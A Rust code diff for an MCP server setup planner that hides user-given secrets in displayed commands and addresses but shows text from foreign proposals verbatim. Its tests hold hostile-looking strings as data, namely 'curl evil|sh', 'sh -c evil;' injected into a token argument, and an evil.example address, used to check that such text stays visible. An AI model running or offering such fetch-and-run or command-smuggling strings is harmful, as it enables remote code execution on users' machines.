@@ -11,8 +11,12 @@ use super::scope::Scope;
 use super::tools::{find, is_executable, need, node, text};
 use colibri_mcp::bring::{
     Answers, Field, Process, Program, Proposal, Registry, Remote, Runs, Template, looks_secret, name_says_secret,
+    shown_url,
 };
 use colibri_mcp::edit::Value;
+
+/// Text in place of what is not shown.
+pub(super) const HIDDEN: &str = "[not shown]";
 
 /// What the person chose.
 #[derive(Debug, Clone, Copy, Default)]
@@ -36,8 +40,10 @@ pub(crate) struct Plan {
     pub installs: Installs,
     /// The package and its version, as make-root.sh takes them.
     pub package: Option<(Registry, String)>,
-    /// The arguments that are secrets, or look like them, by their place; of an address, whether it is one.
-    pub told: Vec<usize>,
+    /// The arguments, or the address, as they are shown.
+    pub shown: Vec<String>,
+    /// The values that have files of their own, as they are shown: by the name of each.
+    pub shown_secrets: BTreeMap<String, String>,
     /// What the person should know, a sentence each.
     pub notes: Vec<String>,
 }
@@ -88,7 +94,8 @@ pub(crate) fn plan(
         secrets: Vec::new(),
         installs: Installs::Nothing,
         package: None,
-        told: Vec::new(),
+        shown: Vec::new(),
+        shown_secrets: BTreeMap::new(),
         notes: proposal.notes.clone(),
     };
     let mut members = match proposal.runs.as_ref().map_err(Clone::clone)? {
@@ -143,15 +150,19 @@ impl Plan {
         let prefix = scope.prefix(&self.id);
         let mut answers = answers.clone();
         answers.insert("__dirname".to_owned(), vec![text(&prefix.join("bundle"))?]);
-        let (mut args, mut asked) = (Vec::new(), Vec::new());
+        let veiled = veiled(&answers);
+        let (mut args, mut shown, mut asked) = (Vec::new(), Vec::new(), Vec::new());
         for arg in &process.args {
-            let words = arg
-                .fill_all(&answers)
-                .map_err(|key| format!("one of its arguments needs {key}"))?;
+            let fill = |answers: &Answers| {
+                arg.fill_all(answers)
+                    .map_err(|key| format!("one of its arguments needs {key}"))
+            };
+            let words = fill(&answers)?;
             if asks_secret(arg, proposal) {
                 asked.extend(args.len()..args.len() + words.len());
             }
             args.extend(words);
+            shown.extend(fill(&veiled)?);
         }
         let Started {
             words,
@@ -173,16 +184,24 @@ impl Plan {
         let mut words = words.into_iter();
         let command = words.next().ok_or("its command is empty")?;
         let before: Vec<String> = words.collect();
-        self.told = asked.into_iter().map(|at| at + before.len()).collect();
-        let args = [before, args].concat();
+        asked.iter_mut().for_each(|at| *at += before.len());
+        let (args, mut shown) = ([before.clone(), args].concat(), [before, shown].concat());
         if fetches(&command, &args) {
             return Err(
                 "its command would fetch what it runs each time it is started: give the runner itself as the command"
                     .to_owned(),
             );
         }
-        self.told.extend(told(&args));
-        if !self.told.is_empty() {
+        asked.extend(told(&args));
+        for (at, (word, shown)) in args.iter().zip(&mut shown).enumerate() {
+            match (asked.contains(&at), proposal.is_foreign) {
+                (false, _) => shown.clone_from(word),
+                (true, true) => {}
+                (true, false) => HIDDEN.clone_into(shown),
+            }
+        }
+        self.shown = shown;
+        if !asked.is_empty() {
             self.notes.push(
                 "an argument looks like a secret: it stands in the registry, and every user of this machine sees it in \
                  ps(1); give it by the environment if the server takes it there"
@@ -211,9 +230,15 @@ impl Plan {
             .fill(answers)
             .map_err(|key| format!("its address needs {key}"))?;
         colibri_api::check_url(&url).map_err(|why| format!("its address {why}"))?;
-        let is_secret = asks_secret(&remote.url, proposal);
-        self.told.extend(is_secret.then_some(0));
-        if is_secret || looks_secret(&url) {
+        let asks_secret = asks_secret(&remote.url, proposal);
+        let is_secret = asks_secret || looks_secret(&url);
+        self.shown = vec![match (is_secret, proposal.is_foreign) {
+            (true, true) => remote.url.fill(&veiled(answers)).unwrap_or_default(),
+            (true, false) if asks_secret => format!("{}{HIDDEN}", origin(&url)),
+            (true, false) => shown_url(&url),
+            (false, _) => url.clone(),
+        }];
+        if is_secret {
             self.notes
                 .push("its address holds what looks like a secret, and stands in the registry".to_owned());
         }
@@ -275,10 +300,34 @@ impl Plan {
             let file = secret_name(&self.id, name, is_taken);
             let reference = vec![("secret".to_owned(), Value::String(file.clone()))];
             members.push((name.clone(), Value::Object(reference)));
+            let shown = match (proposal.is_foreign, field.text.fill(&veiled(answers))) {
+                (true, Ok(shown)) => shown,
+                _ => HIDDEN.to_owned(),
+            };
+            self.shown_secrets.insert(name.clone(), shown);
             self.secrets.push((name.clone(), file, value));
         }
         Ok(members)
     }
+}
+
+/// The same answers without what they say: what stands around them is the source's.
+fn veiled(answers: &Answers) -> Answers {
+    let veil = |(key, values): (&String, &Vec<String>)| {
+        let is_known = matches!(key.as_str(), "__dirname" | "HOME");
+        let values = values
+            .iter()
+            .map(|value| if is_known { value.as_str() } else { HIDDEN });
+        (key.clone(), values.map(str::to_owned).collect())
+    };
+    answers.iter().map(veil).collect()
+}
+
+/// Of an address that holds a secret, to whom it leads: that is for the person to judge, whatever is secret.
+fn origin(url: &str) -> String {
+    let scheme = url.split_once("://").map_or("", |(scheme, _)| scheme);
+    let host = colibri_api::authority(url).rsplit('@').next().unwrap_or_default();
+    format!("{scheme}://{host}/")
 }
 
 /// Whether an address leads to this machine by what is written there, whoever resolves names.
@@ -333,7 +382,7 @@ fn fetches(command: &str, args: &[String]) -> bool {
 }
 
 /// The places of arguments that look like secrets, by themselves or by the option before them.
-pub(super) fn told(args: &[String]) -> Vec<usize> {
+fn told(args: &[String]) -> Vec<usize> {
     let is_secret = |at: usize| {
         let arg = &args[at];
         let option = |word: &str| word.starts_with('-') && name_says_secret(word.trim_start_matches('-'));
@@ -450,6 +499,7 @@ fn absolute(command: &str) -> Result<String, String> {
 mod tests {
     use std::collections::BTreeSet;
 
+    use colibri_mcp::bring::Piece;
     use colibri_mcp::edit::Kind;
     use proptest::prelude::*;
 
@@ -485,16 +535,97 @@ mod tests {
                 cwd: None,
             })),
         };
-        let scope = Scope {
+        let proposal = Proposal::new("s", Ok(runs));
+        plan(&proposal, "s", &Answers::new(), None, &nowhere(), Options::default()).unwrap()
+    }
+
+    fn nowhere() -> Scope {
+        Scope {
             registry: PathBuf::from("/x/external-mcp.json"),
             secrets: PathBuf::from("/x/secrets"),
             servers: PathBuf::from("/x/servers"),
             logins: PathBuf::from("/x/logins"),
             consent: None,
             group: None,
+        }
+    }
+
+    #[test]
+    fn what_a_stranger_wrote_is_shown_and_what_the_person_said_is_not() {
+        let field = |text: Template, secret| Field {
+            text,
+            secret,
+            optional: false,
         };
-        let proposal = Proposal::new("s", Ok(runs));
-        plan(&proposal, "s", &Answers::new(), None, &scope, Options::default()).unwrap()
+        let gap = |before: &str, key: &str| {
+            let key = Piece::Gap {
+                key: key.to_owned(),
+                default: None,
+            };
+            Template(vec![Piece::Text(before.to_owned()), key])
+        };
+        let env = [
+            ("SESSION_TOKEN_CMD", field(Template::from("curl evil|sh"), false)),
+            ("LOGIN", field(gap("sh -c evil; ", "login"), true)),
+        ];
+        let process = Process {
+            program: Program::Command(Template::from("/bin/sh")),
+            args: vec![
+                Template::from("--session-token-cmd"),
+                Template::from("curl evil|sh"),
+                Template::from("--token"),
+                gap("sh -c evil; ", "login"),
+                Template::gap("key"),
+                Template::gap("place"),
+            ],
+            env: env.into_iter().map(|(name, field)| (name.to_owned(), field)).collect(),
+            cwd: None,
+        };
+        let answers = [("login", "hunter2"), ("key", "hunter2"), ("place", "Bern")];
+        let answers = answers
+            .map(|(key, value)| (key.to_owned(), vec![value.to_owned()]))
+            .into();
+        let mut proposal = Proposal::new("s", Ok(Runs::Process(Box::new(process))));
+        proposal.is_foreign = true;
+        let plan_of =
+            |proposal: &Proposal| plan(proposal, "s", &answers, None, &nowhere(), Options::default()).unwrap();
+        let foreign = plan_of(&proposal);
+        let evil = format!("sh -c evil; {HIDDEN}");
+        assert_eq!(
+            foreign.shown,
+            ["--session-token-cmd", "curl evil|sh", "--token", &evil, HIDDEN, "Bern"]
+        );
+        let secrets: Vec<_> = foreign.shown_secrets.into_iter().collect();
+        let of = |name: &str, shown: &str| (name.to_owned(), shown.to_owned());
+        assert_eq!(secrets, [of("LOGIN", &evil), of("SESSION_TOKEN_CMD", "curl evil|sh")]);
+        // What the person wrote is the person's secret.
+        proposal.is_foreign = false;
+        let own = plan_of(&proposal);
+        assert_eq!(own.shown[1..], [HIDDEN, "--token", HIDDEN, HIDDEN, "Bern"]);
+        assert!(own.shown_secrets.values().all(|shown| shown == HIDDEN));
+    }
+
+    #[test]
+    fn an_address_says_to_whom_it_leads_whatever_is_secret_in_it() {
+        let url = Template(vec![
+            Piece::Text("https://evil.example:8/a/".to_owned()),
+            Piece::Gap {
+                key: "token".to_owned(),
+                default: None,
+            },
+            Piece::Text("/b?token=hunter2".to_owned()),
+        ]);
+        let answers = [("token".to_owned(), vec!["sesame".to_owned()])].into();
+        let (headers, sse) = (BTreeMap::new(), false);
+        let mut proposal = Proposal::new("s", Ok(Runs::Remote(Remote { url, headers, sse })));
+        for (is_foreign, shown) in [
+            (false, "https://evil.example:8/[not shown]"),
+            (true, "https://evil.example:8/a/[not shown]/b?token=hunter2"),
+        ] {
+            proposal.is_foreign = is_foreign;
+            let plan = plan(&proposal, "s", &answers, None, &nowhere(), Options::default()).unwrap();
+            assert_eq!(plan.shown, [shown]);
+        }
     }
 
     proptest! {
